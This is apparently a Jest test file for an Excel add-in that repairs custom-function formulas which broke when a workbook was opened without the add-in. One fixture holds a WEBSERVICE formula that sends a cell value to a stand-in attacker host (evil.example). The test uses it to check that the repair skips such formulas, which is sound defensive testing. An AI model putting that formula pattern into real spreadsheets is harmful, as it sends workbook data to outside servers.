import { countBroken, planRepair, repair } from '../../../../src/addin/workbook/repair/repair';
import { startOffice } from '../host/office-host';
import { WorkbookModel, type Result } from '../host/model';
import { UNWATCHED } from '../unwatched';

/** An Excel that did not find the functions of these cells once, and finds them when a formula is entered again. */
function opened(cells: Record<string, string>): WorkbookModel {
  let isThere = false;
  const answer = (formula: string): Result => {
    if (!isThere || /_xldudf_|NO_SUCH_NAME/.test(formula)) return '#NAME?';
    return formula.includes('KER.TYPES') ? [['Company'], ['Person']] : `of ${formula}`;
  };
  const model = new WorkbookModel(answer);
  for (const address of Object.keys(cells))
    if (address.includes('!')) addSheet(model, address.split('!')[0]!);
  for (const [address, content] of Object.entries(cells)) model.type(address, content);
  isThere = true;
  return model;
}

function addSheet(model: WorkbookModel, name: string): void {
  if (!model.sheets.some((sheet) => sheet.name === name)) model.add(name);
}

const shown = (model: WorkbookModel, address: string) => {
  const { sheet, row, column } = model.find(address);
  return model.valueOf(sheet, row, column);
};
const looked = () => countBroken(new AbortController().signal);

const CELLS = {
  A1: 'Apple',
  B1: '=_xldudf_KER_PROP(A1,"cik")',
  B2: '=_xldudf_KER_PROP(A1,"name")',
  C1: '=[2]!_xldudf_KER_PROP(A1,"cik")',
  D1: '=KER.PROP(A1,"cik")',
  E1: '=_xldudf_KER_TYPES()',
  'Notes!A1': '=_xldudf_KER_ENTITY("Apple")',
};

test('formulas of a workbook that was opened without the add-in are entered again, and live', async () => {
  const model = opened(CELLS);
  startOffice(model);
  expect(await looked()).toBe(6);
  const plan = await planRepair(UNWATCHED);
  expect(plan.formulas).toContainEqual({ address: 'Model!C1', formula: '=KER.PROP(A1,"cik")' });
  expect(shown(model, 'B1')).toBe('#NAME?');
  expect(await repair(plan, UNWATCHED)).toEqual({
    repaired: 6,
    left: [],
    still: [],
    stopped: false,
    failure: undefined,
  });
  expect(model.formulas()).toEqual({
    'Model!B1': '=KER.PROP(A1,"cik")',
    'Model!B2': '=KER.PROP(A1,"name")',
    'Model!C1': '=KER.PROP(A1,"cik")',
    'Model!D1': '=KER.PROP(A1,"cik")',
    'Model!E1': '=KER.TYPES()',
    'Notes!A1': '=KER.ENTITY("Apple")',
  });
  expect(shown(model, 'E2')).toBe('Person');
  expect(await looked()).toBe(0);
});

test('no other cell is written: not those of other add-ins, of texts, of right values, nor other faults', async () => {
  const others = {
    A1: '=_xldudf_BLP_BDP("x","PX_LAST")',
    A2: "'=_xldudf_KER_PROP(A1)",
    A3: '=NO_SUCH_NAME+1',
    A4: '="_xldudf_KER_PROP(A1)"&NO_SUCH_NAME',
    A5: '#NAME?',
  };
  const model = opened({ ...others, B1: '=_xldudf_KER_PROP(A9,"cik")' });
  startOffice(model);
  // It was calculated while the add-in was there, and only its spelling is that of the file.
  model.type('C1', '=_xldudf_KER_PROP(A9,"name")');
  model.find('C1').sheet.at(0, 2)!.value = 'Apple Inc.';
  const write = jest.spyOn(model, 'write');
  await repair(await planRepair(UNWATCHED), UNWATCHED);
  const written = write.mock.calls.map(([sheet, row, column]) => `${sheet.name} ${row} ${column}`);
  expect(new Set(written)).toEqual(new Set(['Model 0 1']));
  expect(shown(model, 'C1')).toBe('Apple Inc.');
});

test('a broken call that its formula hides is found', async () => {
  const model = opened({ B1: '=IFERROR(_xldudf_KER_PROP(A1,"cik"),"none")' });
  model.find('B1').sheet.at(0, 1)!.value = 'none';
  startOffice(model);
  expect(await looked()).toBe(1);
});

test('what cannot be mended is named: on protected sheets, of formulas that do more, of other names', async () => {
  const model = opened({
    'Locked!A1': '=_xldudf_KER_PROP("x","cik")',
    B1: '=WEBSERVICE("http://evil.example/"&_xldudf_KER_PROP("x","cik"))',
    B2: '=KER.PROP("x","cik")',
    B3: '=_xldudf_KER_PROP("x","NO_SUCH_NAME")',
  });
  model.sheet('Locked').isProtected = true;
  startOffice(model);
  const plan = await planRepair(UNWATCHED);
  const left = [
    { address: 'Model!B1', reason: 'outside' },
    { address: 'Locked!A1', reason: 'protected' },
  ];
  expect(plan.left).toEqual(left);
  expect(await repair(plan, UNWATCHED)).toMatchObject({ repaired: 1, left, still: ['Model!B3'] });
  expect(shown(model, 'Locked!A1')).toBe('#NAME?');
});

test('a cell that was changed since the person looked keeps what it holds', async () => {
  const model = opened({ B1: '=_xldudf_KER_PROP("x","cik")', B2: '=_xldudf_KER_PROP("x","name")' });
  startOffice(model);
  const plan = await planRepair(UNWATCHED);
  model.type('B1', '=_xldudf_KER_PROP("x","lei")');
  model.type('B2', 'mine');
  expect(await repair(plan, UNWATCHED)).toMatchObject({ repaired: 0 });
  expect(model.formulas()).toEqual({ 'Model!B1': '=_xldudf_KER_PROP("x","lei")' });
});

test('it is one step for undo, and goes on where Excel refuses that', async () => {
  for (const at of [0, 1, 4, 5, 6, 7, 8]) {
    const model = opened(CELLS);
    const host = startOffice(model, '1.20');
    host.refusesGroup = (sync) => sync === at;
    expect(await repair(await planRepair(UNWATCHED), UNWATCHED)).toMatchObject({ repaired: 6, still: [] });
    expect(host.groups).toBe(1);
  }
});

test('a workbook too large to look through unasked is not, but when a person asks', async () => {
  const model = opened({ A1: '=_xldudf_KER_TYPES()', ZZ500: 'far away' });
  const host = startOffice(model);
  expect(await looked()).toBeUndefined();
  expect(host.counters.bytesReceived).toBeLessThan(5_000);
  expect((await planRepair(UNWATCHED)).formulas).toHaveLength(1);
});
